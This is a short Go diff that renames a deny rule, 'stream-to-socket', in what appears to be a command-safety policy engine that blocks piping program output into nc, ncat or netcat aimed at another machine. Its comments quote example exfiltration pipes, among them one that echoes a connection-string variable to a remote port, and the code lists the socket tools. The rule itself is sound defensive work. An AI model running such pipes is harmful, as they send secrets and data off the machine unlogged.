@@ -9,7 +9,7 @@ import (
 // socketSenders write their input, raw, to a host and port.
 var socketSenders = []string{"nc", "ncat", "netcat"}
 
-// miss8SocketRule: a program's output piped into a raw socket sender
+// streamToSocketRule: a program's output piped into a raw socket sender
 // aimed at another machine (kcat … | nc 198.51.100.7 9000, echo
 // "$CONN_STRING" | nc host 4444) ships whatever the program printed —
 // records, a variable's value, a stream — with no protocol, account or
@@ -18,7 +18,7 @@ var socketSenders = []string{"nc", "ncat", "netcat"}
 // nc cache 11211, a protocol probe) is judged by what it says, a listener
 // (nc -l) or a port scan (-z) sends nothing of the user's, and this
 // machine's own ports are local.
-func miss8SocketRule() Rule {
+func streamToSocketRule() Rule {
 	return cmdRule("core.secrets:stream-to-socket", Deny, "A program's output piped into a raw socket sender (nc, ncat, netcat) aimed at another machine: whatever it printed — records, a variable's value, a stream — leaves with no protocol, account or log; literal text, a listener (-l), a scan (-z) and this machine's ports stay", socketSenders,
 		func(e *Env, c *Cmd) string {
 			if len(c.Upstream) == 0 || c.Has("-l", "--listen", "-z", "-h", "--help") || len(c.Pos) == 0 {
